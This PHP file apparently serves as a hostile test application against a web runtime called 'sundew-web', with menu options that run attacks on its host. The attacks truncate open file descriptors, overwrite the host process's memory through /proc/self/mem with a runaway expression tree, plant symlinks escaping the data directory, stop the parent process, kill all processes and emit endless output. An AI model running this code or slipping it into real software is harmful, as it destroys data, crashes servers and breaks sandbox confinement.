<?php
/* An application that attacks what runs it: index.php?a=NAME chooses how. */
function channel()
{
    foreach (file("/proc/self/maps") as $line)
        if (strpos($line, "sundew-web") !== false) {
            $f = fopen("/proc/self/mem", "r+");
            fseek($f, hexdec(substr($line, 0, strpos($line, "-"))));
            return $f;
        }
    return null;
}
$how = isset($_GET["a"]) ? $_GET["a"] : "";
echo "<a href='index.php?a=truncate'>1</a><a href='index.php?a=fill'>2</a><a href='index.php?a=links'>3</a>";
echo "<a href='index.php?a=stop'>4</a><a href='index.php?a=kill'>5</a><a href='index.php?a=endless'>6</a>";
echo "<a href='index.php?a=leave'>7</a><a href='index.php?a=back'>8</a>";
if ($how == "truncate") {
    for ($i = 3; $i < 300; $i++)
        if (($f = @fopen("/proc/self/fd/$i", "r+")) && @ftruncate($f, 0))
            echo "shorter";
} elseif ($how == "fill") {
    /* Expressions that use the one before forty times: a tree without end. */
    $f = channel();
    if ($f) {
        $log = "";
        for ($i = 1; $i < 400; $i++)
            $log .= pack("V8", 1, 32 + 160, $i, 3, 40, 0, 0, 0) . str_repeat(pack("V", max($i - 1, 1)), 40);
        $log .= pack("V8", 2, 32, 7, 1, 399, 0, 1, 0);
        fwrite($f, pack("V4", 0x62577353, 1, 0, strlen($log)));
        fseek($f, 4096 + (1 << 20) - 16, SEEK_CUR);
        fwrite($f, $log);
    }
} elseif ($how == "leave") {
    mkdir("data");
    file_put_contents("data/cron", "escaped");
} elseif ($how == "links") {
    @unlink("data/cron");
    @rmdir("data");
    @symlink(getenv("HOME") . "/../../outside", "data");
    @symlink("/var/tmp/sundew-attack", "data");
    posix_mkfifo("pipe", 0666);
    symlink("/dev/zero", "zero");
} elseif ($how == "stop") {
    posix_kill(posix_getppid(), 19);
} elseif ($how == "kill") {
    posix_kill(-1, 9);
} elseif ($how == "endless") {
    for (;;)
        echo str_repeat("<div>", 1000);
}
